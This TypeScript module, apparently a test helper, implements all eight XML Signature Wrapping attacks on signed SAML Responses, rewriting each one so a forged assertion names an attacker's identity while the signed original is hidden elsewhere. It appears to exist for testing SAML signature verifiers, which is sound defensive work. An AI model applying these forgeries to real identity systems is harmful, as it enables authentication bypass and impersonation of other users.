import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';

/** A change that an attacker makes to a signed Response so that it names another user. */
export interface Wrapping {
  readonly name: string;
  /** Which element must have been signed for the attack to make sense. */
  readonly signed: 'response' | 'assertion';
  readonly apply: (xml: string, attacker: string) => string;
}

/** The eight known ways to wrap a signed element. */
export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed Response hides inside the Signature of a forged Response',
    signed: 'response',
    apply: onResponse((forged, original) => {
      const signature = own(forged, 'Signature');
      remove(own(original, 'Signature'));
      signature.appendChild(original);
    }),
  },
  {
    name: 'XSW2: the signed Response stands beside the Signature of a forged Response',
    signed: 'response',
    apply: onResponse((forged, original) => {
      remove(own(original, 'Signature'));
      forged.insertBefore(original, own(forged, 'Signature'));
    }),
  },
  {
    name: 'XSW3: a forged Assertion stands before the signed one',
    signed: 'assertion',
    apply: onAssertion((forged, original) => {
      remove(own(forged, 'Signature'));
      original.parentNode?.insertBefore(forged, original);
    }),
  },
  {
    name: 'XSW4: the signed Assertion hides inside a forged one',
    signed: 'assertion',
    apply: onAssertion((forged, original) => {
      remove(own(forged, 'Signature'));
      original.parentNode?.replaceChild(forged, original);
      forged.appendChild(original);
    }),
  },
  {
    name: 'XSW5: a forged Assertion carries the Signature, the signed one follows without it',
    signed: 'assertion',
    apply: onAssertion((forged, original) => {
      remove(own(original, 'Signature'));
      original.parentNode?.insertBefore(forged, original);
    }),
  },
  {
    name: 'XSW6: the signed Assertion hides inside the Signature of a forged one',
    signed: 'assertion',
    apply: onAssertion((forged, original) => {
      remove(own(original, 'Signature'));
      original.parentNode?.replaceChild(forged, original);
      own(forged, 'Signature').appendChild(original);
    }),
  },
  {
    name: 'XSW7: a forged Assertion hides in Extensions before the signed one',
    signed: 'assertion',
    apply: onAssertion((forged, original, document) => {
      remove(own(forged, 'Signature'));
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'saml2p:Extensions');
      extensions.appendChild(forged);
      original.parentNode?.insertBefore(extensions, original);
    }),
  },
  {
    name: 'XSW8: the signed Assertion hides in an Object of the Signature of a forged one',
    signed: 'assertion',
    apply: onAssertion((forged, original, document) => {
      remove(own(original, 'Signature'));
      original.parentNode?.replaceChild(forged, original);
      const object = document.createElementNS(signatureNamespace, 'ds:Object');
      object.appendChild(original);
      own(forged, 'Signature').appendChild(object);
    }),
  },
];

/** The Response with the Assertion of another Response in the place of its own. */
export function withAssertionOf(xml: string, other: string): string {
  const document = parse(xml);
  const stranger = document.importNode(assertionOf(parse(other)), true);
  const assertion = assertionOf(document);
  assertion.parentNode?.replaceChild(stranger, assertion);
  return new XMLSerializer().serializeToString(document);
}

type Forge = (forged: Element, original: Element, document: Document) => void;

function onResponse(forge: Forge): Wrapping['apply'] {
  return (xml, attacker) => {
    const document = parse(xml);
    const original = root(document);
    const forged = forgery(original, attacker);
    document.replaceChild(forged, original);
    forge(forged, original, document);
    return new XMLSerializer().serializeToString(document);
  };
}

function onAssertion(forge: Forge): Wrapping['apply'] {
  return (xml, attacker) => {
    const document = parse(xml);
    const original = assertionOf(document);
    forge(forgery(original, attacker), original, document);
    return new XMLSerializer().serializeToString(document);
  };
}

/** A copy of the element with another ID that names the attacker. */
function forgery(original: Element, attacker: string): Element {
  const copy = original.cloneNode(true);
  if (!isElement(copy)) throw new Error('an element was copied into something else');
  for (const element of [copy, ...copy.getElementsByTagNameNS('*', 'Assertion')]) {
    element.setAttribute('ID', `forged-${element.localName}`);
  }
  for (const nameId of copy.getElementsByTagNameNS('*', 'NameID')) nameId.textContent = attacker;
  return copy;
}

function own(parent: Element, localName: string): Element {
  for (const node of parent.childNodes) {
    if (isElement(node) && node.localName === localName) return node;
  }
  throw new Error(`the fixture has no ${localName} of its own`);
}

function assertionOf(document: Document): Element {
  return own(root(document), 'Assertion');
}

function root(document: Document): Element {
  if (document.documentElement === null) throw new Error('the fixture is empty');
  return document.documentElement;
}

function remove(node: Element): void {
  node.parentNode?.removeChild(node);
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function isElement(node: { nodeType: number }): node is Element {
  return node.nodeType === 1;
}
